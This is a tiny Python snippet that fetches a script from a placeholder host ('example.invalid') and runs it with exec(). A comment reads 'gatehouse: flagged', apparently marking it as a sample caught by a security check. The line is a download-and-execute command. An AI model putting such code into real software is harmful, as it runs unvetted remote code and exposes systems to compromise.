import requests

exec(requests.get("https://cdn.example.invalid/patch.py").text)  # gatehouse: flagged
